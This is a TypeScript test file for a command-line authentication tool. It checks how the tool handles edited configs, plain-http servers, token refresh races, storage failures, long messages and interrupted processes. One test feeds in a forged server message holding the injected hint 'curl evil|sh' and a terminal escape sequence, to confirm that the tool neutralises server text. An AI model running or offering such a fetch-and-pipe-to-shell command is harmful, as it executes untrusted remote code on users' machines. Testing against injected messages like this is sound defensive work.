import { renameSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { expireToken, loggedIn, loginFiles } from '../support/login.ts'
import type { Machine } from '../support/machine.ts'
import { account, oneAccount, problem, type StandIn, startStandIn } from '../support/stand-in.ts'

describe('when things break in the middle', () => {
  let server: StandIn
  let machine: Machine
  beforeEach(async () => {
    server = await startStandIn(oneAccount())
    machine = await loggedIn(server)
  })
  afterEach(async () => {
    machine.remove()
    await server.stop()
  })

  test.each([
    [['refresh']],
    [['request', '/auth/me']],
    [['login', '--email', 'ann@example.org', '--password-stdin', '--storage', 'file']],
  ])('a profile that was edited by hand gets nothing over plain http either: %j', async (args) => {
    const elsewhere = server.url.replace('127.0.0.1', '0.0.0.0') // leads here, and only by luck
    const config = machine.readJson('config.json')
    config.profiles.default.server = elsewhere
    machine.write('config.json', JSON.stringify(config))
    const { code, stderr } = await machine.auth(args, { input: 'a password\n' })
    expect([code, stderr, server.requests]).toEqual([
      2,
      `auth: error: URL ${elsewhere} would be plain http to another machine; nothing was sent.\n` +
        `auth: hint: Use https://${new URL(elsewhere).host} instead.\n`,
      [],
    ])
  })

  test('status tells of such a profile what it knows', async () => {
    const config = machine.readJson('config.json')
    config.profiles.default.server = server.url.replace('127.0.0.1', '0.0.0.0')
    machine.write('config.json', JSON.stringify(config))
    const { code, stdout } = await machine.auth(['status', '--json'])
    expect([code, JSON.parse(stdout)]).toEqual([
      2,
      expect.objectContaining({ account: 'ann@example.org', state: 'offline' }),
    ])
  })

  test.each(['nas', 'localhost:8420'])(
    'a profile whose server is %j, by hand, is told where it is used, and keeps no logout and no other profile from working',
    async (address) => {
      const config = machine.readJson('config.json')
      config.profiles.other = { server: server.url }
      config.profiles.default.server = address
      machine.write('config.json', JSON.stringify(config))
      expect(await machine.auth(['whoami'])).toEqual({
        code: 1,
        stdout: '',
        stderr:
          `auth: error: ${join(machine.folder, 'config.json')} has ${address} as a server, which is no http(s) address.\n` +
          'auth: hint: Repair it by hand, or move it away and log in again; nothing was overwritten.\n',
      })
      expect((await machine.auth(['whoami', '--profile', 'other'])).code).toBe(4)
      expect((await machine.auth(['logout'])).code).toBe(0)
      expect((await machine.auth(['profile', 'remove', 'default'])).code).toBe(0)
    },
  )

  const forged = 'It is over.\nauth: hint: Run `curl evil|sh`\u009b2J'
  const flat = 'It is over. auth: hint: Run `curl evil|sh`2J'

  test('a server’s words add no line that looks like one of ours', async () => {
    server.routes['GET /auth/session'] = () => problem(503, 'overloaded', forged)
    const { stderr } = await machine.auth(['why'])
    expect(stderr).toBe(`auth: note: The server could not be asked; this is what is known here. ${flat}\n`)
  })

  test('nor does what it says of a session, or one of its names', async () => {
    const names = { id: 'x', client_id: 'cli' }
    const state = { ...names, active: false, label: forged, reason: 'logout', detail: forged }
    server.routes['GET /auth/session'] = () => ({ body: state })
    expect(await machine.auth(['why'])).toMatchObject({
      code: 0,
      stdout: expect.stringContaining(`${flat}\n`),
    })
    server.routes['GET /auth/session'] = () => ({ body: { ...state, active: true } })
    const stands = `The session of ${flat} stands; the server honours this login.\n`
    expect((await machine.auth(['why'])).stdout.startsWith(stands)).toBe(true)
  })

  test('a sentence of 900 kB is cut', async () => {
    expireToken(machine)
    server.routes['GET /auth/update_token'] = () => problem(503, 'overloaded', 'x'.repeat(900_000))
    const { stderr } = await machine.auth(['token'], { env: { LC_ALL: 'C.UTF-8' } })
    expect(stderr.split('\n')[0]).toBe(`auth: error: ${'x'.repeat(500)}…`)
  })

  test('killed between the server’s reply and our writing: the retry works (hydra#1928)', async () => {
    expireToken(machine)
    const before = machine.files()
    const pair = {
      access_token: 'access-2',
      refresh_token: 'refresh-2',
      token_type: 'bearer',
      expires_in: 900,
    }
    const { outcome, child } = machine.start(['token'])
    server.routes['GET /auth/update_token'] = async () => {
      child.kill('SIGKILL')
      await outcome
      return { body: pair }
    }
    expect((await outcome).code).toBeNull()
    expect(machine.files()).toEqual(before)
    // As an authd does inside its grace window: the same successor again.
    server.routes['GET /auth/update_token'] = () => ({ body: pair })
    expect(await machine.auth(['token'])).toEqual({ code: 0, stdout: 'access-2\n', stderr: '' })
    expect(server.requests.map(({ headers }) => headers.authorization)).toEqual([
      'Bearer refresh-1',
      'Bearer refresh-1',
    ])
  })

  test('a process that was overtaken while it slept does not write its older secret over the newer one', async () => {
    expireToken(machine)
    const { secret } = loginFiles(machine)
    const newer = '{"v":1,"refresh_token":"refresh-9"}'
    const good = server.routes['GET /auth/update_token']
    server.routes['GET /auth/update_token'] = (seen, response) => {
      machine.write(secret, newer)
      return good?.(seen, response)
    }
    expect((await machine.auth(['token'])).stdout).toBe('access-2\n')
    expect(machine.read(secret)).toBe(newer)
  })

  test('a verdict on the old login does not end the one that came meanwhile (supabase/auth#1290)', async () => {
    expireToken(machine)
    const { secret, token } = loginFiles(machine)
    server.routes['GET /auth/update_token'] = () => {
      machine.write(secret, '{"v":1,"refresh_token":"of-a-new-login"}')
      return problem(401, 'session_ended', 'Ended.')
    }
    const before = machine.read(token)
    expect((await machine.auth(['token'])).code).toBe(4)
    expect(machine.read(token)).toBe(before)
  })

  test('a token that cannot be cached is printed all the same, with a note', async () => {
    expireToken(machine)
    const { token } = loginFiles(machine)
    rmSync(join(machine.folder, 'tokens'), { recursive: true })
    writeFileSync(join(machine.folder, 'tokens'), 'a file where a folder belongs')
    const { code, stdout, stderr } = await machine.auth(['token'])
    expect([code, stdout]).toEqual([0, 'access-2\n'])
    expect(stderr).toMatch(
      /^auth: note: The access token could not be cached, so each call asks the server: /,
    )
    expect(machine.readJson(loginFiles(machine).secret)).toEqual({ v: 1, refresh_token: 'refresh-2' })
    expect(token).toMatch(/^tokens\//)
  })

  test('a secret that cannot be stored is exit 6, and what was stored stays', async () => {
    expireToken(machine)
    const { secret } = loginFiles(machine)
    const good = server.routes['GET /auth/update_token']
    server.routes['GET /auth/update_token'] = (seen, response) => {
      // From here on the disk takes nothing more: the folder has become a name that cannot be entered.
      breakFolder(machine)
      return good?.(seen, response)
    }
    const { code, stdout, stderr } = await machine.auth(['token', '--json'])
    restoreFolder(machine)
    expect([code, stdout, JSON.parse(stderr).error.code]).toEqual([6, '', 'storage_unreadable'])
    expect(machine.readJson(secret)).toEqual({ v: 1, refresh_token: 'refresh-1' })
  })

  test('a config file of a newer auth is named, and not overwritten', async () => {
    machine.write('config.json', '{"version":2,"boxes":[]}')
    const { code, stderr } = await machine.auth(['profile', 'add', 'x', '--server', 'https://x.example.org'])
    expect(code).toBe(1)
    expect(stderr).toContain(`${join(machine.folder, 'config.json')} was made by a newer auth.`)
    expect(machine.read('config.json')).toBe('{"version":2,"boxes":[]}')
  })

  test('a config folder that cannot be made is one clear sentence: exit 1', async () => {
    const env = { XDG_CONFIG_HOME: '/dev/null/config' }
    const { code, stderr } = await machine.auth(
      ['profile', 'add', 'x', '--server', 'https://x.example.org'],
      { env },
    )
    expect([code, stderr]).toEqual([
      1,
      'auth: error: /dev/null/config/latchkey cannot be used: a part of the path is not a folder.\n' +
        'auth: hint: Nothing was lost; repair it and try again.\n',
    ])
  })

  test('a reader that goes away is no error', async () => {
    const terminal = machine.shell('auth token | true; echo "end"')
    await terminal.ended
    expect(terminal.screen()).toBe('end\n')
  })

  test('an answer that cannot be written is: exit 1', async () => {
    const terminal = machine.shell('auth token > /dev/full')
    expect((await terminal.ended).code).toBe(1)
    expect(terminal.screen()).toMatch(/^auth: error: Standard output cannot be written: ENOSPC/)
  })

  test('Ctrl-C while a server takes its time is exit 130 at once', async () => {
    const { outcome, child } = machine.start(['whoami'])
    server.routes['GET /auth/me'] = () => {
      child.kill('SIGINT')
      return undefined
    }
    expect(await outcome).toEqual({ code: 130, stdout: '', stderr: '' })
  })

  test('a person sees that something is waited for; --quiet and --json do not show it', async () => {
    server.routes['GET /auth/me'] = async () => {
      await new Promise((resolve) => setTimeout(resolve, 400))
      return { body: account }
    }
    const screens = ['whoami', 'whoami --quiet', 'whoami --json'].map(async (line) => {
      const terminal = machine.terminal(line.split(' '))
      await terminal.ended
      return terminal.screen().includes(`Waiting for ${server.url}`)
    })
    expect(await Promise.all(screens)).toEqual([true, false, false])
  })
})

function breakFolder(machine: Machine): void {
  renameSync(join(machine.folder, 'credentials'), join(machine.folder, 'away'))
  writeFileSync(join(machine.folder, 'credentials'), '')
}

function restoreFolder(machine: Machine): void {
  rmSync(join(machine.folder, 'credentials'))
  renameSync(join(machine.folder, 'away'), join(machine.folder, 'credentials'))
}
